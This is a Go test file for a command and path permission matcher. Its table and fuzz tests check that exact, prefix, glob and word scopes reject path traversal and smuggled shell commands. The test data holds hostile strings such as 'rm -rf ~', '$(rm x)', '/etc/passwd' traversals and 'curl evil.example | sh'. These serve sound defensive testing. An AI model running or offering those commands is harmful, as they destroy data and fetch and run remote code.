package decision

import (
	"path"
	"slices"
	"strings"
	"testing"
	"unicode"
)

func TestScopeCovers(t *testing.T) {
	for _, tc := range []struct {
		kind         ScopeKind
		match, value string
		want         bool
	}{
		{KindExact, "/home/a/p", "/home/a/p", true},
		{KindExact, "/home/a/p", "/home/a/p/", false}, // as written (Allows, Denies: every form)
		{KindExact, "/home/a/p", "/home/a/./p", false},
		{KindExact, "/home/a/p", "/home/a/q/../p", false},
		{KindExact, "/home/a/p", "/home/a/q/../../p", false},
		{KindExact, "p/x", "p/./x", false}, // a relative value is not a path to clean
		{"", "ls", "ls", true},             // exact is the default kind
		{"", "ls", "ls -la", false},

		{KindPrefix, "/home/a/p", "/home/a/p", true},
		{KindPrefix, "/home/a/p", "/home/a/p/x", true},
		{KindPrefix, "/home/a/p/", "/home/a/p", true},
		{KindPrefix, "/home/a/p/", "/home/a/p/x/y", true},
		{KindPrefix, "/home/a/p", "/home/a/pq", false},
		{KindPrefix, "/home/a/p", "/home/a/p/../q", true}, // as written; its path form is not,
		{KindPrefix, "/home/a/p", "/home/a/p/x/../../q", true},
		{KindPrefix, "/home/a/p", "/home/a/p/x/..", true},
		{KindPrefix, "/home/a/p", "//home//a/./p//x", false},
		{KindPrefix, "/home/a/p", "/home/a", false},
		{KindPrefix, "/home/a/../b", "/home/b/x", false},
		{KindPrefix, "/", "/etc/passwd", true},
		{KindPrefix, "/", "/../etc", true},
		{KindPrefix, "/home/é", "/home/é/ß", true},
		{KindPrefix, "/home/é", "/home/éx", false},
		{KindPrefix, "/home/a/p", "home/a/p/x", false},
		{KindPrefix, "https://example.com/api/", "https://example.com/api/v1", true},
		{KindPrefix, "https://example.com/api/", "https://example.com/api/../admin", false},
		{KindPrefix, "https://example.com/api", "https://example.com/api.evil.org", true}, // plain string prefix: the caller's match must end at a boundary
		{KindPrefix, "src/", "src/main.go", true},
		{KindPrefix, "src/", "src/../../etc/passwd", false},
		{KindPrefix, "src/.", "src/../x", false},
		{KindPrefix, "../lib/", "../lib/x", true},
		{KindPrefix, "../lib/", "../lib/../../x", false},
		{KindPrefix, "", "anything", false},
		{KindPrefix, "", "", false},

		{KindGlob, "/home/a/*", "/home/a/x", true},
		{KindGlob, "/home/a/*", "/home/a/.x", true},
		{KindGlob, "/home/a/*", "/home/a/x/y", false},
		{KindGlob, "/home/a/*", "/home/a", false},
		{KindGlob, "/home/a/*.go", "/home/a/b.go", true},
		{KindGlob, "/home/a/*.go", "/home/a/b/c.go", false},
		{KindGlob, "/home/a/**", "/home/a/x/y/z", true},
		{KindGlob, "/home/a/**", "/home/a", true},
		{KindGlob, "/home/a/**", "/home/ab", false},
		{KindGlob, "/home/a/**", "/home/a/../b", true}, // as written; its path form is not,
		{KindGlob, "/home/a/**", "/home/a/x/../../b", true},
		{KindGlob, "/home/a/**", "/home//a//x", false},
		{KindGlob, "/home/a/**/", "/home/a/x/", true}, // the pattern's trailing slash is cleaned away
		{KindGlob, "/home/a/x/", "/home/a/x", false},
		{KindGlob, "/home/**/*.go", "/home/a/b/c.go", true},
		{KindGlob, "/home/**/*.go", "/home/c.go", true},
		{KindGlob, "/home/**/*.go", "/home/a/c.txt", false},
		{KindGlob, "**/*.go", "a/b/c.go", true},
		{KindGlob, "**/*.go", "c.go", true},
		{KindGlob, "**", "a/../../etc/passwd", false},
		{KindGlob, "**", "a/b", true},
		{KindGlob, "/**", "/../etc/passwd", true}, // cleaned: /etc/passwd, under /
		{KindGlob, "/home/a/?", "/home/a/é", true},
		{KindGlob, "/home/a/?", "/home/a/ab", false},
		{KindGlob, "/home/a?b", "/home/a/b", false},
		{KindGlob, "/home/a?b", "/home/a//b", false},
		{KindGlob, "/home/a/[", "/home/a/[", false}, // malformed pattern
		{KindGlob, "", "", true},
		{KindGlob, "", "x", false},
		{KindGlob, "/home/a/*", "/home/a/x;rm", false},
		{KindGlob, "/home/a/*", "/home/a/$(id)", false},
		{KindGlob, "/home/a/**", "/home/a/x/`id`", false},
		{KindGlob, "/home/a/;/*", "/home/a/;/x", true},

		{KindWords, "git status", "git status", true},
		{KindWords, "git status", "git status --short", true},
		{KindWords, "git status", "git\tstatus\t-s", true},
		{KindWords, "git  status", " git status ", true},
		{KindWords, "git", "git-foo status", false},
		{KindWords, "git status", "git", false},
		{KindWords, "git status", "git statuses", false},
		{KindWords, "git", "git status; rm -rf ~", false},
		{KindWords, "git", "git status;rm x", false},
		{KindWords, "git", "git $(rm x)", false},
		{KindWords, "git", "git `rm x`", false},
		{KindWords, "git", "git status\nrm x", false},
		{KindWords, "git", "git status\r", false},
		{KindWords, "git", "git status && rm x", false},
		{KindWords, "git", "git status | sh", false},
		{KindWords, "git", "git status > /etc/x", false},
		{KindWords, "git", "git log 'a b'", false},
		{KindWords, "git", `git log "a b"`, false},
		{KindWords, "git", `git log a\ b`, false},
		{KindWords, "git", "git add *", false},
		{KindWords, "git", "git add ~/x", false},
		{KindWords, "git", "git add {a,b}", false},
		{KindWords, "git", "git log # comment", false},
		{KindWords, "git", "git\u00a0status", false}, // no-break space: one word to a shell
		{KindWords, "git", "git status\u200b", false},
		{KindWords, "git", "git add é.txt", true},
		{KindWords, "git", "git \xff", false},
		{KindWords, "", "git", false},
		{KindWords, " \t", "git", false},
		{KindWords, "git;", "git; ls", false},

		{KindAny, "*", "anything at all; rm -rf /", true},
		{KindAny, "*", "", true},
		{"regex", ".*", "x", false},
		{"EXACT", "x", "x", false},
	} {
		if got := (Scope{Match: tc.match, Kind: tc.kind}).Covers(tc.value); got != tc.want {
			t.Errorf("%s %q covers %q = %v, want %v", tc.kind, tc.match, tc.value, got, tc.want)
		}
	}
}

// rejectedWords are the characters protocol.md section 2 forbids in a
// value covered by kind words.
const rejectedWords = ";&|$`()<>'\"\\\n"

func FuzzScopeCovers(f *testing.F) {
	for _, s := range [][3]string{
		{"prefix", "/home/a/p", "/home/a/p/x"},
		{"prefix", "/home/a/p/", "/home/a/p/../q"},
		{"prefix", "/", "//x/./y"},
		{"prefix", "src/", "src/../x"},
		{"glob", "/home/**/*.go", "/home/a/b.go"},
		{"glob", "**", "a/../b"},
		{"glob", "go test *", "go test x; curl evil.example | sh"},
		{"words", "git status", "git status -s"},
		{"words", "git", "git $(x); y\n"},
		{"exact", "x", "x"},
		{"any", "*", "y"},
	} {
		f.Add(s[0], s[1], s[2])
	}
	f.Fuzz(func(t *testing.T, kind, match, value string) {
		s := Scope{Match: match, Kind: ScopeKind(kind)}
		if s.Allows(Dimension{Value: value}) && !s.Denies(Dimension{Value: value}) {
			t.Fatalf("%s %q allows %q but does not deny it", kind, match, value)
		}
		if !s.Covers(value) {
			return
		}
		switch ScopeKind(kind) {
		case KindPrefix:
			if path.IsAbs(match) && path.IsAbs(value) && s.Allows(Dimension{Value: value}) {
				m, v := splitPath(path.Clean(match)), splitPath(path.Clean(value))
				if len(v) < len(m) || !slices.Equal(v[:len(m)], m) {
					t.Fatalf("prefix %q covers %q: not below it once cleaned", match, value)
				}
			}
		case KindGlob:
			if !strings.ContainsAny(match, CommandStarters) && strings.ContainsAny(value, CommandStarters) {
				t.Fatalf("glob %q covers %q: a wildcard matched a command starter", match, value)
			}
		case KindWords:
			for _, r := range value {
				if strings.ContainsRune(rejectedWords, r) || (unicode.IsControl(r) && r != '\t') {
					t.Fatalf("words %q covers %q, which holds %q", match, value, r)
				}
			}
		}
	})
}

// splitPath returns the segments of a cleaned absolute path ("/" has none).
func splitPath(p string) []string {
	return strings.FieldsFunc(p, func(r rune) bool { return r == '/' })
}
